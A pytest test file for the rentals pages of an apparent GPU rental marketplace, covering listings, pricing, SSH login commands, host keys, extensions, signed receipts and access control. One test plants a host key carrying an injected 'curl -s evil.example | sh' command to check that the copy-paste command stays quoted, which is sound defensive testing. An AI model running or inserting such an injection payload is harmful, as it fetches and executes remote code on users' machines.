"""A renter's list, one rental's page, and who may see it."""

import asyncio
import html
import json
import re
import shlex
from collections.abc import Callable
from functools import partial
from importlib import import_module
from uuid import uuid4

import pytest
from django.apps import apps
from django.http import HttpResponse, StreamingHttpResponse
from django.test import Client
from pytest_django import DjangoAssertNumQueries

from marketplace.accounts.models import User
from marketplace.live import queries as live
from marketplace.machines.actions.describe import describe
from marketplace.metering import queries as metering
from marketplace.offers.actions.refresh import refresh
from marketplace.offers.models import Offer
from marketplace.placements.models import Placement
from marketplace.rentals import queries
from marketplace.rentals.models import Rental
from protocol.hardware import Gpu, Resources
from protocol.receipts import SignedInterval, check_chain
from tests.marketplace import scene
from tests.marketplace.rentals.market import ALICES_KEY, Market
from tests.marketplace.test_api import Api

ACTIONS = ("end", "extend", "forget")
VIEWS = ("", "panel", "receipts.json")


@pytest.fixture
def rental(market: Market, renter: Client, alice: User) -> Rental:
    return market.rent(alice)


def test_a_new_list_teaches_what_a_rental_is(renter: Client, market: Market) -> None:
    page = renter.get("/rentals/").content.decode()
    assert "You have not rented anything yet" in page
    assert page.count("check-done") == 2
    assert "You have $10.00." in page


def test_the_list_takes_the_same_queries_however_long(
    renter: Client,
    market: Market,
    alice: User,
    django_assert_num_queries: DjangoAssertNumQueries,
) -> None:
    for _ in range(2):
        market.rent(alice)
    # The first page notes where its reader is logged in.
    renter.get("/rentals/")
    # session, user, running, how kinds begin, ended, proven addresses; balance and notices above
    with django_assert_num_queries(9):
        page = renter.get("/rentals/").content.decode()
    assert page.count('<td class="title">') == 2


def test_what_runs_is_listed_however_many_have_ended(
    renter: Client, market: Market, alice: User, monkeypatch: pytest.MonkeyPatch
) -> None:
    views = partial(queries.views, rows_max=2)
    monkeypatch.setattr("marketplace.pages.views.rentals.queries.views", views)
    running = market.rent(alice, now=scene.NOW)
    for second in range(1, 4):
        ended = market.rent(alice, lease_s=60, now=scene.after(second))
        renter.post(f"/rentals/{ended.id}/end")
        market.end(ended, at=scene.after(second))
    page = renter.get("/rentals/")
    assert [panel.short_id for panel in page.context["live"]] == [str(running.id)[:8]]
    assert len(page.context["ended"]) == 2
    older = renter.get(f"/rentals/?{page.context['older']}")
    assert (len(older.context["live"]), len(older.context["ended"])) == (0, 1)
    assert b'id="older"' in page.content
    assert b'id="older"' not in older.content
    assert renter.get(f"/rentals/?after={uuid4()}").status_code == 404
    assert len(renter.get("/rentals/?after=x").context["live"]) == 1


def say_gpus(market: Market, *models: str) -> None:
    """Have the machine say that it has these, each larger than the next, and be found so."""
    some = tuple(
        Gpu(uuid=f"GPU-{n}", model=model, vram_bytes=(80 - n) * scene.GIB, driver="550")
        for n, model in enumerate(models)
    )
    hardware = scene.hardware().model_copy(update={"gpus": some})
    describe(machine_id=market.machine.id, hardware=hardware)
    refresh(machine_id=market.machine.id, now=scene.NOW)


def test_a_rental_says_which_gpus_were_offered_whatever_its_machine_says_later(
    renter: Client, market: Market, alice: User
) -> None:
    say_gpus(market, "H100", "A100", "A100")
    assert Offer.objects.get().gpu_model == "A100"
    size = {"cpus": 1, "ram_bytes": scene.GIB, "disk_bytes": 2 * scene.GIB}
    given, both, none = (
        market.rent(alice, resources=Resources.of(gpus=gpus, **size), lease_s=600)
        for gpus in (1, 2, 0)
    )
    say_gpus(market, "T4", "T4", "T4")
    assert Offer.objects.get().gpu_model == "T4"
    api = Api(alice)
    listed = {one["id"]: one["gpu_model"] for one in api.get("/rentals").json()["items"]}
    # A slice may have none of its machine's.
    assert listed == {str(given.id): "A100", str(both.id): "A100", str(none.id): ""}
    assert api.get(f"/rentals/{given.id}").json()["gpu_model"] == "A100"
    assert "2 × A100 GPUs, 1 CPU, " in renter.get("/rentals/").content.decode()
    assert "1 × A100 GPU, 1 CPU, " in renter.get(f"/rentals/{given.id}/").content.decode()
    # Of what was rented before the update it says what the machine says then.
    Rental.objects.update(gpu_model="", gpu_vram_bytes=0)
    import_module("marketplace.rentals.migrations.0014_gpu_model").fill(apps, None)
    kept = set(Rental.objects.values_list("gpu_model", "gpu_vram_bytes"))
    assert kept == set(Offer.objects.values_list("gpu_model", "vram_bytes"))


def test_the_list_says_what_an_hour_costs_now_and_how_long_is_left(
    renter: Client, market: Market, rental: Rental, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("django.utils.timezone.now", lambda: scene.after(100))
    assert numbers(renter.get("/rentals/")) == [("Left", "58 min"), ("An hour now", "$0.00")]
    market.run(rental, at=scene.after(1))
    assert numbers(renter.get("/rentals/")) == [("Left", "58 min"), ("An hour now", "$3.60")]
    renter.post(f"/rentals/{rental.id}/end")
    assert numbers(renter.get("/rentals/"))[0] == ("Left", "–")
    market.end(rental, at=scene.after(100))
    assert numbers(renter.get("/rentals/")) == []
    assert numbers(renter.get("/rentals/?state=over")) == [("Left", "–"), ("An hour now", "–")]


def numbers(page: HttpResponse) -> list[tuple[str, str]]:
    """Return what stands under two heads of the lists."""
    cells = r'data-label="(Left|An hour now)"[^>]*>([^<]*)<'
    return re.findall(cells, page.content.decode())


def test_a_fresh_rental_waits_and_costs_nothing(renter: Client, rental: Rental) -> None:
    page = renter.get(f"/rentals/{rental.id}/").content.decode()
    assert "Waiting for the machine" in page
    assert "Nothing is billed yet" in page
    assert 'id="ssh-command"' not in page
    panel = renter.get(f"/rentals/{rental.id}/panel").content.decode()
    # It posts its forms from wherever it was shown, on the page and alone.
    assert 0 < panel.count('method="post"') == panel.count("csrfmiddlewaretoken")
    assert len(set(re.findall(r'csrfmiddlewaretoken" value="(\w{64})"', panel))) == 1
    part = page.partition('id="panel"')[2].partition("</section>")[0]
    assert part.count('method="post"') == part.count("csrfmiddlewaretoken")
    shown = f"/rentals/{rental.id}/events?seen={live.version(rental.id)}"
    assert f'data-live="{shown}"' in page


def test_what_begins_says_by_when_others_were_ready_until_it_is(
    renter: Client, rental: Rental, market: Market
) -> None:
    figures = {"start_p50_ms": 20_000, "start_p95_ms": 90_000, "starts": 12, "starts_failed": 1}
    path = f"/rentals/{rental.id}/"
    assert 'id="expected"' not in renter.get(path).content.decode()
    dialog = f"/offers/{market.offer.id}/rent"
    assert 'id="ready"' not in renter.get(dialog).content.decode()
    Offer.objects.update(**figures)
    ready = renter.get(dialog).content.decode().partition('id="ready">')[2].partition("<")[0]
    assert ready == "20 s for half, 90 s for 95 of 100"
    page = renter.get(path).content.decode()
    told = page.partition('id="expected">')[2].partition("</p>")[0]
    assert re.findall('datetime="(.*?)" data-moment', told) == [
        scene.after(seconds).isoformat() for seconds in (20, 90)
    ]
    assert "the 12 of 13 that came up" in told
    # One that was stopped has its image already.
    Placement.objects.update(starts=1)
    assert 'id="expected"' not in renter.get(path).content.decode()
    Placement.objects.update(starts=0)
    market.run(rental, at=scene.after(1))
    assert 'id="expected"' not in renter.get(path).content.decode()


def test_an_active_rental_shows_how_to_log_in(
    renter: Client, rental: Rental, market: Market
) -> None:
    market.run(rental, at=scene.after(1))
    page = renter.get(f"/rentals/{rental.id}/").content.decode()
    assert '<code id="ssh-command">ssh -p 20001 root@127.0.0.1</code>' in page


def test_the_host_key_shows_as_ssh_asks_about_it(
    renter: Client, rental: Rental, market: Market
) -> None:
    market.run(rental, at=scene.after(1))
    Placement.objects.update(ssh_host_key=ALICES_KEY.removesuffix(" alice"))
    page = renter.get(f"/rentals/{rental.id}/").content.decode()
    assert '<code id="fingerprint">SHA256:' in page
    assert "[127.0.0.1]:20001 ssh-ed25519 AAAA" in page


def test_a_host_key_in_a_command_to_copy_is_one_word_to_the_shell(
    renter: Client, rental: Rental, market: Market
) -> None:
    market.run(rental, at=scene.after(1))
    evil = f"{scene.HOST_KEY} x' ; curl -s evil.example | sh ; echo '"
    Placement.objects.update(ssh_host_key=evil)
    page = renter.get(f"/rentals/{rental.id}/").content.decode()
    shown = re.search(r'id="trust-command">(.*?)</code>', page)
    assert shown is not None
    words = shlex.split(html.unescape(shown[1]))
    assert words == ["echo", f"[127.0.0.1]:20001 {evil}", ">>", "~/.ssh/known_hosts"]


def test_an_active_rental_whose_door_is_shut_says_that_it_costs_nothing(
    renter: Client, rental: Rental, market: Market
) -> None:
    market.run(rental, at=scene.after(1))
    market.look(at=scene.after(60), opens=False)
    page = renter.get(f"/rentals/{rental.id}/").content.decode()
    assert "SSH does not answer from outside; nothing is billed until it does." in page
    market.look(at=scene.after(120))
    assert "Seconds count from now on." in renter.get(f"/rentals/{rental.id}/").content.decode()


def test_stop_is_a_plain_form(renter: Client, rental: Rental) -> None:
    reply = renter.post(f"/rentals/{rental.id}/end")
    assert reply.headers["Location"] == f"/rentals/{rental.id}/"
    rental.placement.refresh_from_db()
    assert rental.placement.stop_requested_at == scene.NOW


def test_an_ended_rental_says_what_it_cost_and_can_be_forgotten(
    renter: Client, rental: Rental, market: Market
) -> None:
    market.run(rental, at=scene.after(1))
    told = market.agent.count(rental.placement_id, 0, 11_000)
    market.agent.sync(scene.after(12), intervals=[told])
    renter.post(f"/rentals/{rental.id}/end")
    market.end(rental, at=scene.after(13))
    page = renter.get(f"/rentals/{rental.id}/").content.decode()
    assert "data-settled" in page
    assert "You ended it." in page
    assert renter.post(f"/rentals/{rental.id}/forget").headers["Location"] == "/rentals/"
    assert renter.get(f"/rentals/{rental.id}/").status_code == 404


def test_a_live_rental_is_not_forgotten(renter: Client, rental: Rental) -> None:
    reply = renter.post(f"/rentals/{rental.id}/forget", follow=True)
    assert b"This rental has not ended; end it first." in reply.content


def test_more_hours_are_added_to_the_present_end(renter: Client, rental: Rental) -> None:
    for _ in range(2):  # pressed twice
        sent = {"hours_more": "0.5", "request_key": "k"}
        reply = renter.post(f"/rentals/{rental.id}/extend", sent)
        assert reply.status_code == 302
    rental.refresh_from_db()
    assert rental.lease_s == 5400
    assert rental.worst_total_microusd == 5_400_000


@pytest.mark.parametrize(
    ("sent", "sentence"),
    [
        ({}, "Say how long you rent or how much you spend at most."),
        ({"cap": "0.01"}, "Its dollar cap would end it first; raise that too."),
        ({"cap": "much"}, "Write an amount of dollars"),
    ],
)
def test_an_extension_that_is_none_is_explained(
    renter: Client, rental: Rental, sent: dict[str, str], sentence: str
) -> None:
    reply = renter.post(f"/rentals/{rental.id}/extend", {"request_key": "k"} | sent)
    assert reply.status_code == 422
    assert sentence in reply.content.decode()


def test_each_extend_form_has_a_key_of_its_own(renter: Client, rental: Rental) -> None:
    keys = {
        renter.get(f"/rentals/{rental.id}/").context["extend_form"]["request_key"].value()
        for _ in range(2)
    }
    assert len(keys) == 2


async def streamed(reply: StreamingHttpResponse) -> bytes:
    """Return all that the server sends by and by."""
    return b"".join([part async for part in reply])


@pytest.mark.django_db(transaction=True)
def test_the_receipts_are_what_the_machine_signed(
    renter: Client, rental: Rental, market: Market, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(metering, "RECEIPTS_MAX", 2)
    market.run(rental, at=scene.after(1))
    told = [market.agent.count(rental.placement_id, at, at + 2000) for at in range(0, 10_000, 2000)]
    market.agent.sync(scene.after(11), intervals=told)
    reply = renter.get(f"/rentals/{rental.id}/receipts.json")
    assert reply.headers["Content-Disposition"].startswith("attachment")
    sent = json.loads(asyncio.run(streamed(reply)))
    chain = [SignedInterval.model_validate(item) for item in sent["intervals"]]
    assert sent["machine_key"] == market.machine.machine_key
    assert check_chain(chain) == 10_000


@pytest.mark.parametrize("place", VIEWS)
def test_bob_does_not_see_what_alice_rents(
    rental: Rental, bob: User, browser_of: Callable[[User], Client], place: str
) -> None:
    assert browser_of(bob).get(f"/rentals/{rental.id}/{place}").status_code == 404
    assert b"You have not rented anything yet" in browser_of(bob).get("/rentals/").content


@pytest.mark.parametrize("action", ACTIONS)
def test_bob_does_not_touch_what_alice_rents(
    rental: Rental, bob: User, browser_of: Callable[[User], Client], action: str
) -> None:
    reply = browser_of(bob).post(f"/rentals/{rental.id}/{action}", {"hours_more": "1"})
    assert reply.status_code == 404
    rental.placement.refresh_from_db()
    assert rental.placement.stop_requested_at is None


@pytest.mark.parametrize("place", VIEWS)
def test_strangers_are_asked_to_log_in(rental: Rental, place: str) -> None:
    reply = Client().get(f"/rentals/{rental.id}/{place}")
    assert reply.headers["Location"].startswith("/accounts/login/")


@pytest.mark.parametrize("action", ACTIONS)
def test_following_a_link_changes_nothing(renter: Client, rental: Rental, action: str) -> None:
    assert renter.get(f"/rentals/{rental.id}/{action}").status_code == 405
